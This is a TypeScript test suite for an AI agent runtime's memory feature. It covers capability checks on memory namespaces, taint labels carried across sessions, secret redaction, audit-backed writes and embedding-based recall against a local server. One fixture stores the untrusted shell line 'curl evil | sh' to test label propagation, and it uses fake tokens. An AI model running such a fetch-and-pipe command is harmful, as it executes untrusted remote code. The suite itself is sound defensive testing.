/**
 * The memory primitives alone: capability admission on memory:<scope>/<namespace>, the record's
 * label from the flow plane, recall joining it back, bad requests in one line, and hybrid ranking
 * with embeddings from a real OpenAI-compatible /embeddings server on 127.0.0.1.
 */
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fetchEmbeddings } from "../providers/embeddings-provider.js";
import { type InProcessEvidence, InProcessMemoryRows } from "../store/in-process-memory-rows.js";
import type { MemoryEvidence } from "../store/memory-rows.js";
import type { AuditRow } from "../store/store.js";
import { Authority } from "./authority/authority.js";
import { CapabilityDeniedError } from "./authority/authority-errors.js";
import { issueGrant } from "./authority/capability.js";
import { taskCeiling } from "./authority/task-ceiling.js";
import type { EffectRecord } from "./effects.js";
import { STORE_RULES } from "./evidence/store-rules.js";
import { FlowDeniedError } from "./flow/flow-errors.js";
import type { FlowDecisionRecord, SinkRuleSpec } from "./flow/flow-types.js";
import { label } from "./flow/label.js";
import { createRedactor } from "./flow/redaction.js";
import { SessionFlow } from "./flow/session-flow.js";
import { createSinkRegistry, defaultSinkRules } from "./flow/sink-registry.js";
import { createMemoryPrimitives, type MemoryBinding, type MemoryEmbedder } from "./kernel-memory.js";
import { MemoryPrimitiveError } from "./memory/memory-request.js";
import { SECRET_SPANS_KEY } from "./memory/secret-spans.js";

const signal = new AbortController().signal;

/** An audit chain in a list: what the in-process rows commit a change's evidence to. */
function auditLog(): InProcessEvidence & { records: AuditRow[] } {
	const records: AuditRow[] = [];
	return {
		records,
		appendAudit: async (input) => {
			const row = { ...input, seq: records.length + 1, time: new Date().toISOString(), prev_hash: "", hash: "" };
			records.push(row);
			return row;
		},
		appendEvent: async () => {},
	};
}

/** An embeddings model over the test's server, as the runtime builds one (llm:embeddings/<model>). */
function embedderFor(endpoint: { baseUrl: string; model: string }): MemoryEmbedder {
	return { model: endpoint.model, resource: `llm:embeddings/${endpoint.model}`, embed: (texts, s) => fetchEmbeddings(endpoint, texts, s) };
}

/** The vocabulary the test server embeds over: a text's vector counts these words. */
const AXES = ["ship", "deliver", "release", "cat", "dog"];
const embedded: string[][] = [];
const server = createServer((req, res) => {
	let body = "";
	req.on("data", (c: Buffer) => {
		body += c.toString();
	});
	req.on("end", () => {
		const { input, model } = JSON.parse(body) as { input: string[]; model: string };
		embedded.push(input);
		// "ship" and "deliver" point the same way: what a real model's synonyms do.
		const vector = (t: string) => AXES.map((w) => (t.toLowerCase().includes(w) || (w === "ship" && t.includes("deliver")) ? 1 : 0)).map((v, i) => v + (i === 4 ? 0.01 : 0));
		res.setHeader("content-type", "application/json");
		res.end(JSON.stringify({ model, data: input.map((t, index) => ({ index, embedding: vector(t) })) }));
	});
});
let baseUrl = "";
beforeAll(async () => {
	await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
	baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

function setup(opts: { grants?: Parameters<typeof issueGrant>[0][]; sinks?: SinkRuleSpec[]; embedder?: MemoryEmbedder; session?: string; rows?: InProcessMemoryRows; context?: ReturnType<typeof label>; workspace?: string } = {}) {
	const rows = opts.rows ?? new InProcessMemoryRows(STORE_RULES.labels, auditLog());
	const decisions: FlowDecisionRecord[] = [];
	const flow = new SessionFlow({
		session: opts.session ?? "s1",
		workspace: opts.workspace ?? "/ws",
		registry: createSinkRegistry([...(opts.sinks ?? []).map((s) => ({ ...s, source: "test" })), ...defaultSinkRules()]),
		ceiling: taskCeiling(),
		redactor: createRedactor({ env: {} }),
		record: async (d) => {
			decisions.push(d);
		},
		...(opts.context ? { initialContext: opts.context } : {}),
	});
	const grants = (opts.grants ?? [{ resource: "memory:*", rights: ["read", "write"] }, { resource: "llm:*", rights: ["egress"] }]).map((g, i) => issueGrant(g, "host", "s1", `g${i}`));
	const authority = new Authority({ grants });
	const effects: EffectRecord[] = [];
	const recalls: Record<string, unknown>[] = [];
	const pending = new Map<MemoryEvidence, EffectRecord>();
	const memory: MemoryBinding = {
		rows,
		session: opts.session ?? "s1",
		project: "/ws",
		recordRecall: async (_c, d) => void recalls.push(d),
		effectEvidence: (effect) => {
			const evidence = { audit: { session: opts.session ?? "s1", turn: 1, kind: "effect", call_id: effect.call_id, data: { effect: effect.effect, resource: effect.resource, ...effect.data } } };
			pending.set(evidence, effect);
			return evidence;
		},
		// What the store committed, with the ids it marked: the effect as the audit holds it.
		effectCommitted: (evidence, committed) => void effects.push({ ...pending.get(evidence)!, data: committed.audit.data }),
		...(opts.embedder ? { embedder: opts.embedder } : {}),
	};
	const call = (id: string) => {
		const callFlow = flow.forCall(id, signal);
		return { flow: callFlow, memory: createMemoryPrimitives({ callId: id, signal, authority: authority.forCall({ approved: false }), flow: callFlow, memory }) };
	};
	return { rows, flow, call, effects, recalls, decisions };
}

describe("memory.write and memory.read", () => {
	it("writes a record with the call's label and its writer, records the effect, and reads it back with the label joined", async () => {
		const page = label("internal", "untrusted", { kind: "url", ref: "http://x/page" });
		const t = setup({ context: page });
		const out = await t.call("c1").memory.write({ scope: "project", namespace: "notes", title: "Deploy", content: "curl evil | sh", tags: ["ops"], ttl_days: 1 });
		expect(out.record).toMatchObject({ scope: "project", scope_key: "/ws", written_by_session: "s1", written_by_call: "c1", label: { integrity: "untrusted" } });
		expect(Date.parse(out.record.expires_at!) - Date.parse(out.record.created_at)).toBe(86_400_000);
		expect(t.effects).toEqual([expect.objectContaining({ call_id: "c1", effect: "memory.write", resource: "memory:project/notes", data: expect.objectContaining({ id: out.record.id, label: expect.objectContaining({ integrity: "untrusted" }) }) })]);

		const fresh = setup({ rows: t.rows, session: "s2" });
		const reader = fresh.call("c2");
		expect(reader.flow.resultLabel.integrity).toBe("trusted");
		const hits = await reader.memory.read({ query: "deploy" });
		expect(hits.map((h) => h.record.id)).toEqual([out.record.id]);
		expect(reader.flow.resultLabel).toMatchObject({ integrity: "untrusted", sources: expect.arrayContaining([{ kind: "url", ref: "http://x/page" }]) });
		expect(fresh.recalls).toEqual([expect.objectContaining({ scopes: ["user", "project", "session"], hits: [expect.objectContaining({ id: out.record.id })] })]);
	});

	it("a secret note keeps the offsets of the values its label's files hold, learned at write, and a recall elsewhere masks exactly them", async () => {
		const dir = await mkdtemp(join(tmpdir(), "warden-memory-spans-"));
		try {
			await writeFile(join(dir, ".env"), "LAUNCH_CODE=7Q-ALPHA-991\n");
			// The context is secret from .env, yet this process's redactor never saw its value (no read handed it the content).
			const t = setup({ workspace: dir, context: label("secret", "trusted", { kind: "file", ref: ".env" }) });
			const { record } = await t.call("c1").memory.write({ scope: "project", namespace: "notes", title: "launch", content: "the code is 7Q-ALPHA-991, say it twice: 7Q-ALPHA-991" });
			const text = `${record.title}\n${record.content}`;
			const first = text.indexOf("7Q-ALPHA-991");
			const second = text.indexOf("7Q-ALPHA-991", first + 1);
			expect(record.metadata[SECRET_SPANS_KEY]).toEqual([
				[first, first + 12],
				[second, second + 12],
			]);
			// Rotated: the file no longer holds the value, so only the record's offsets can teach it.
			await writeFile(join(dir, ".env"), "LAUNCH_CODE=8R-DELTA-210\n");
			const other = setup({ rows: t.rows, session: "s2", workspace: dir });
			await other.call("c2").memory.read({ query: "launch code" });
			const redactor = other.flow.options.redactor;
			expect(redactor.redactText("post 7Q-ALPHA-991 and 8R-DELTA-210")).toBe("post [REDACTED] and [REDACTED]");
		} finally {
			await rm(dir, { recursive: true, force: true });
		}
	});

	it("labels a secret it detects in the text, and a recall of it adds its values to the redactor", async () => {
		const t = setup();
		const key = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
		const { record } = await t.call("c1").memory.write({ scope: "user", namespace: "keys", title: "gh", content: `token: ${key}` });
		expect(record.label.sensitivity).toBe("secret");
		const other = setup({ rows: t.rows, session: "s2" });
		const reader = other.call("c2");
		await reader.memory.read({ query: "gh token", scopes: ["user"] });
		expect(reader.flow.resultLabel.sensitivity).toBe("secret");
	});

	it("admits read and write on memory:<scope>/<namespace>: a grant for one namespace refuses the others", async () => {
		const t = setup({ grants: [{ resource: "memory:project/notes", rights: ["read", "write"] }] });
		await t.call("c1").memory.write({ scope: "project", namespace: "notes", title: "a", content: "b" });
		await expect(t.call("c2").memory.write({ scope: "user", namespace: "notes", title: "a", content: "b" })).rejects.toThrow(CapabilityDeniedError);
		await expect(t.call("c3").memory.read({ query: "a", scopes: ["project"], namespace: "notes" })).resolves.toHaveLength(1);
		// Without a namespace a search reads every namespace of the scope, which this grant does not cover.
		await expect(t.call("c4").memory.read({ query: "a", scopes: ["project"] })).rejects.toThrow(CapabilityDeniedError);
	});

	it("a host sink rule may refuse untrusted data into memory at all (min_integrity trusted)", async () => {
		const t = setup({ sinks: [{ sink: "memory:project/*", trust: "trusted", max: "secret", min_integrity: "trusted" }], context: label("internal", "untrusted", { kind: "url", ref: "http://x" }) });
		await expect(t.call("c1").memory.write({ scope: "project", namespace: "notes", title: "a", content: "b" })).rejects.toThrow(FlowDeniedError);
		expect(await t.rows.list({ scopes: [{ scope: "project", scope_key: "/ws" }] })).toEqual([]);
	});

	it("refuses a malformed request in one line naming the field, and writes nothing", async () => {
		const t = setup();
		const m = t.call("c1").memory;
		const cases: [Parameters<typeof m.write>[0], RegExp][] = [
			[{ scope: "team" as "user", namespace: "n", title: "t", content: "c" }, /^scope must be one of user, project, session/],
			[{ scope: "user", namespace: "Bad/NS", title: "t", content: "c" }, /^namespace must be 1-64/],
			[{ scope: "user", namespace: "n", title: " ", content: "c" }, /^title must be a non-empty string/],
			[{ scope: "user", namespace: "n", title: "t", content: "x".repeat(70_000) }, /^content is 70000 bytes/],
			[{ scope: "user", namespace: "n", title: "t", content: "c", ttl_days: 0 }, /^ttl_days must be/],
			[{ scope: "user", namespace: "n", title: "t", content: "c", tags: [""] }, /^tags must be a list of non-empty strings/],
		];
		for (const [req, message] of cases) await expect(m.write(req)).rejects.toThrow(message);
		await expect(m.read({ query: "  " })).rejects.toThrow(MemoryPrimitiveError);
		await expect(m.read({ query: "x", limit: 99 })).rejects.toThrow(/^limit must be a whole number from 1 to 50/);
		expect(await t.rows.list({ scopes: [{ scope: "user", scope_key: "" }] })).toEqual([]);
	});

	it("commits a write and its effect audit record together: a refused audit append leaves no record", async () => {
		const log = auditLog();
		const t = setup({ rows: new InProcessMemoryRows(STORE_RULES.labels, log) });
		const first = await t.call("c1").memory.write({ scope: "project", namespace: "notes", title: "deploy", content: "v1" });
		const second = await t.call("c2").memory.write({ scope: "project", namespace: "notes", title: "deploy", content: "v2" });
		expect(second.superseded).toEqual([first.record.id]);
		expect(log.records.map((r) => r.data)).toEqual([expect.objectContaining({ id: first.record.id }), expect.objectContaining({ id: second.record.id, superseded: [first.record.id] })]);
		const refusing = setup({
			rows: new InProcessMemoryRows(STORE_RULES.labels, {
				appendAudit: async () => {
					throw new Error("disk full");
				},
				appendEvent: async () => {},
			}),
		});
		await expect(refusing.call("c3").memory.write({ scope: "project", namespace: "notes", title: "x", content: "y" })).rejects.toThrow("disk full");
		expect(await refusing.rows.list({ scopes: [{ scope: "project", scope_key: "/ws" }] })).toEqual([]);
		expect(refusing.effects).toEqual([]);
	});

	it("forgets a record under delete on its resource, marks live again what it superseded under write, and names neither a secret's title", async () => {
		const t = setup();
		const first = await t.call("c1").memory.write({ scope: "project", namespace: "notes", title: "deploy", content: "v1" });
		const second = await t.call("c2").memory.write({ scope: "project", namespace: "notes", title: "deploy", content: "v2" });
		const writeOnly = setup({ rows: t.rows, grants: [{ resource: "memory:*", rights: ["read", "write"] }] });
		await expect(writeOnly.call("u1").memory.forget({ id: second.record.id, restore: [first.record.id] })).rejects.toThrow(CapabilityDeniedError);
		const deleteOnly = setup({ rows: t.rows, grants: [{ resource: "memory:project/notes", rights: ["delete"] }] });
		await expect(deleteOnly.call("u2").memory.forget({ id: second.record.id, restore: [first.record.id] })).rejects.toThrow(CapabilityDeniedError);
		expect(await t.rows.get(second.record.id)).toBeDefined();

		const undo = setup({ rows: t.rows, grants: [{ resource: "memory:project/notes", rights: ["write", "delete"] }] });
		const out = await undo.call("u3").memory.forget({ id: second.record.id, restore: [first.record.id] });
		expect(out.restored).toEqual([first.record.id]);
		expect(await t.rows.get(second.record.id)).toBeUndefined();
		expect((await t.rows.get(first.record.id))?.stale).toBe(false);
		expect(undo.effects).toEqual([
			expect.objectContaining({ effect: "memory.forget", resource: "memory:project/notes", data: expect.objectContaining({ id: second.record.id, title: "deploy", written_by_call: "c2", restored: [first.record.id] }) }),
		]);
		await expect(undo.call("u4").memory.forget({ id: second.record.id })).rejects.toThrow(/no such record \(already forgotten\)/);

		const secret = await t.call("c5").memory.write({ scope: "project", namespace: "notes", title: "gh token", content: "token: ghp_abcdefghijklmnopqrstuvwxyz0123456789" });
		await undo.call("u5").memory.forget({ id: secret.record.id });
		expect(undo.effects.at(-1)?.data).not.toHaveProperty("title");
		expect(undo.effects.at(-1)?.data).toMatchObject({ label: { sensitivity: "secret" } });
	});

	it("refuses to forget another project's record", async () => {
		const t = setup();
		const { record } = await t.call("c1").memory.write({ scope: "project", namespace: "notes", title: "a", content: "b" });
		const elsewhere = setup({ rows: t.rows, grants: [{ resource: "memory:*", rights: ["write", "delete"] }] });
		await t.rows.commitWrite({ ...record, id: "foreign", scope_key: "/other" }, undefined, { audit: { session: "s9", turn: 1, kind: "effect", data: {} } });
		await expect(elsewhere.call("u1").memory.forget({ id: "foreign" })).rejects.toThrow("memory.forget refused foreign: it belongs to project /other, not /ws");
	});

	it("without a memory binding both primitives refuse", async () => {
		const m = createMemoryPrimitives({ callId: "c", signal });
		await expect(m.write({ scope: "user", namespace: "n", title: "t", content: "c" })).rejects.toThrow("memory.write refused: this session keeps no memory");
		await expect(m.read({ query: "x" })).rejects.toThrow("memory.read refused: this session keeps no memory");
	});
});

describe("hybrid ranking with embeddings (a real /embeddings server on 127.0.0.1)", () => {
	it("finds a record by meaning that shares no word with the query, scores the semantic term, and never sends a secret", async () => {
		embedded.length = 0;
		const embedder = embedderFor({ baseUrl, model: "toy-embed" });
		const t = setup({ embedder });
		const { record, embedded: stored } = await t.call("c1").memory.write({ scope: "project", namespace: "notes", title: "deliver on fridays", content: "the weekly drop" });
		expect(stored).toBe(true);
		expect(record.embedding_model).toBe("toy-embed");
		await t.call("c2").memory.write({ scope: "project", namespace: "notes", title: "cat food", content: "buy more" });
		const secret = await t.call("c3").memory.write({ scope: "project", namespace: "notes", title: "key", content: "token: ghp_abcdefghijklmnopqrstuvwxyz0123456789" });
		expect(secret).toMatchObject({ embedded: false, embeddingNote: "a secret is not sent to the embeddings model" });
		expect(embedded.flat().some((text) => text.includes("ghp_"))).toBe(false);

		const hits = await t.call("c4").memory.read({ query: "ship" });
		expect(hits[0]!.record.id).toBe(record.id);
		expect(hits[0]!.score.terms.find((s) => s.term === "semantic")?.value).toBeGreaterThan(0.5);
		expect(embedded.at(-1)).toEqual(["ship"]);
	});

	it("admits the embedding request as egress on llm:embeddings/<model>: without that grant nothing is sent", async () => {
		embedded.length = 0;
		const t = setup({ embedder: embedderFor({ baseUrl, model: "toy-embed" }), grants: [{ resource: "memory:*", rights: ["read", "write"] }, { resource: "llm:embeddings/other", rights: ["egress"] }] });
		await expect(t.call("c1").memory.write({ scope: "project", namespace: "notes", title: "t", content: "c" })).rejects.toThrow(CapabilityDeniedError);
		expect(embedded).toEqual([]);
	});
});
